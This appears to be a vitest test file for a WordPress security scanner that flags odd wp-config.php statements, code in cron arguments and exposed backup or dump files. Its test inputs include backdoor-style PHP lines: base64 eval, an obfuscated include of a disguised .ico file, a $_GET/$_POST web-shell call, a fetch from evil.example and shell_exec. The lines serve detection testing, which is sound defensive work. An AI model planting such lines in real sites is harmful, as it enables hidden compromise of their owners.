import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { oddStatements } from '../../../src-main/wordpress/config-statements.ts';
import { readCron } from '../../../src-main/wordpress/cron.ts';
import { leakOf, shows } from '../../../src-main/wordpress/leaks.ts';
import { endOfPhp } from '../../../src-main/wordpress/releases.ts';
import { configuration, newSalts } from '../../fleet/configuration.ts';

const plain = configuration({
  db: { name: 'd', user: 'u', password: 'p', host: 'h', prefix: 'wp_' },
  salts: newSalts(),
  constants: { WP_DEBUG: 'false' },
});
const sayOf = (code: string) =>
  oddStatements('/srv/wp-config.php', Buffer.from(code)).odd.map(({ sure, what }) => `${sure}: ${what}`);
/** A plain configuration with one line more, before WordPress is loaded or after. */
const early = (line: string) =>
  sayOf(plain.replace(/\/\* That's all|require_once ABSPATH/, (found) => `${line}\n${found}`));
const late = (line: string) => sayOf(`${plain}\n${line}\n`);

describe('a statement of wp-config that does not belong there', () => {
  it.each([
    [`@eval(base64_decode('cGhwaW5mbygpOw=='));`, 'likely'],
    [`@include "\\x2fvar\\057www/favicon_a1.ico";`, 'likely'],
    [`if (isset($_GET['k'])) { $f = $_GET['k']; $f($_POST['x']); }`, 'likely'],
    [`$x = file_get_contents('https://evil.example/a');`, 'likely'],
    [`ini_set('auto_prepend_file', '/tmp/a.php');`, 'likely'],
    [`shell_exec('id');`, 'likely'],
    [`require_once __DIR__ . '/wp-includes/css/load-x.php';`, 'possible'],
    [`file_put_contents(__DIR__ . '/a', 'x');`, 'possible'],
    ['function helper_a() { return 1; }', 'unlikely'],
  ])('%s', (line, sure) => expect(early(line)[0]).toMatch(new RegExp(`^${sure}: `)));

  it('code after WordPress was loaded', () => {
    expect(late('wp_mail("a", "b", "c");')).toEqual(['possible: It runs code after WordPress was loaded']);
    expect(late("define( 'WP_DEBUG', true );\n\n// the end")).toEqual([]);
  });
});

it.each([
  ['a plain one', plain],
  ["Debian's", () => readFileSync('/usr/share/wordpress/wp-config.php', 'utf8')],
  [
    'with https behind a proxy',
    plain.replace(
      'require_once',
      `if ( isset( $_SERVER['HTTP_X_FORWARDED_PROTO'] ) && 'https' === $_SERVER['HTTP_X_FORWARDED_PROTO'] ) { $_SERVER['HTTPS'] = 'on'; }\nrequire_once`,
    ),
  ],
  [
    'with an address by host name',
    plain.replace('require_once', `define( 'WP_HOME', 'https://' . $_SERVER['HTTP_HOST'] );\nrequire_once`),
  ],
  [
    'with settings',
    plain.replace(
      'require_once',
      `@ini_set( 'display_errors', 0 ); set_time_limit( 300 ); ini_set( 'session.cookie_secure', true ); date_default_timezone_set( 'UTC' );\nrequire_once`,
    ),
  ],
  [
    'Bedrock',
    `<?php\nrequire_once dirname(__DIR__) . '/vendor/autoload.php';\nrequire_once dirname(__DIR__) . '/config/application.php';\nrequire_once ABSPATH . 'wp-settings.php';\n`,
  ],
  ['with salts beside it', plain.replace('require_once', `require 'wp-salt.php';\nrequire_once`)],
  ['GoDaddy', plain.replace('<?php', `<?php\nrequire_once( dirname( __FILE__ ) . '/gd-config.php' );`)],
  [
    'Wordfence',
    plain.replace(
      'require_once',
      `if ( file_exists( __DIR__ . '/wordfence-waf.php' ) ) { include_once __DIR__ . '/wordfence-waf.php'; }\nrequire_once`,
    ),
  ],
  [
    "Docker's",
    `<?php\nif (!function_exists('getenv_docker')) { function getenv_docker($env, $default) { if ($f = getenv($env . '_FILE')) { return rtrim(file_get_contents($f), "\\r\\n"); } return getenv($env) ?: $default; } }\ndefine('DB_NAME', getenv_docker('X', 'y'));\n$table_prefix = getenv_docker('P', 'wp_');\nif ($configExtra = getenv_docker('WORDPRESS_CONFIG_EXTRA', '')) {\n\teval($configExtra);\n}\nrequire_once ABSPATH . 'wp-settings.php';\n`,
  ],
] as [string, string | (() => string)][])('says nothing of a configuration: %s', (_, text) => {
  expect(sayOf(typeof text === 'string' ? text : text())).toEqual([]);
});

it('says where a configuration can not be taken apart, and looks at its words all the same', () => {
  const { odd, problem } = oddStatements('/srv/wp-config.php', Buffer.from('<?php if ( { eval($_POST["x"]);'));
  expect(problem).toContain('/srv/wp-config.php');
  expect(odd.map(({ sure }) => sure)).toEqual(['certain']);
});

describe('the option cron', () => {
  const cron = (hook: string, args = 'a:0:{}') =>
    Buffer.from(
      `a:2:{i:1795300000;a:1:{s:${hook.length}:"${hook}";a:1:{s:32:"40cd750bba9870f18aada2478b24840a";a:3:{s:8:"schedule";s:5:"daily";s:4:"args";${args}s:8:"interval";i:86400;}}}s:7:"version";i:2;}`,
    );

  it('is read by hook', () => {
    expect(readCron(cron('my_hook'))).toEqual([{ hook: 'my_hook', at: 1_795_300_000, schedule: 'daily', code: false }]);
  });
  it('code among the arguments is seen', () => {
    const code = "eval(base64_decode('eA=='));";
    expect(readCron(cron('x', `a:1:{i:0;s:${code.length}:"${code}";}`))?.[0]?.code).toBe(true);
    expect(readCron(cron('x', 'a:1:{i:0;s:9:"a sitemap";}'))?.[0]?.code).toBe(false);
  });
  it('what is none is null', () => expect(readCron(Buffer.from('O:8:"stdClass":0:{}'))).toBeNull());
});

describe('what can be read from outside', () => {
  it.each([
    ['wp-config.php.bak', 'configuration'],
    ['.wp-config.php.swp', 'configuration'],
    ['wp-config.txt', 'configuration'],
    ['a/db.sql.gz', 'dump'],
    ['backup_2026.zip', 'archive'],
    ['.env.local', 'environment'],
    ['wp-content/debug.log', 'log'],
    ['wp-config.php', null],
    ['wp-config-sample.php', null],
    ['wp-content/themes/a/.git/HEAD', 'repository'],
    ['readme.html', null],
    ['index.php', null],
  ])('%s', (path, kind) => expect(leakOf(path)).toBe(kind));

  it('is told by its own beginning, not by an answer', () => {
    const page = '<!DOCTYPE html><html><title>Index of things</title>\nDB_PASSWORD=\n-- \nref: refs/</html>';
    for (const kind of ['configuration', 'environment', 'dump', 'archive', 'log', 'repository', 'listing'] as const)
      expect(shows(kind, page)).toBe(false);
    expect(shows('configuration', "<?php\ndefine('DB_PASSWORD', 'x');")).toBe(true);
    expect(shows('environment', 'DB_PASSWORD="x"\n')).toBe(true);
    expect(shows('dump', '-- MariaDB dump\nCREATE TABLE `x`')).toBe(true);
    expect(shows('dump', '\x1f\x8b\b')).toBe(true);
    expect(shows('archive', 'PK\x03\x04')).toBe(true);
    expect(shows('log', '[22-Nov-2026 10:00:00 UTC] PHP Notice:  x')).toBe(true);
    expect(shows('repository', 'ref: refs/heads/main\n')).toBe(true);
    expect(shows('listing', '<html><head><title>Index of /wp-content/uploads/</title>')).toBe(true);
  });
});

it('knows when a branch of PHP ended, and which it does not know', () => {
  expect(['5.3.1', '7.4.33', '8.2.1', '9.0.0', 'x'].map(endOfPhp)).toEqual([
    '2018-12-31',
    '2022-11-28',
    '2026-12-31',
    null,
    null,
  ]);
});
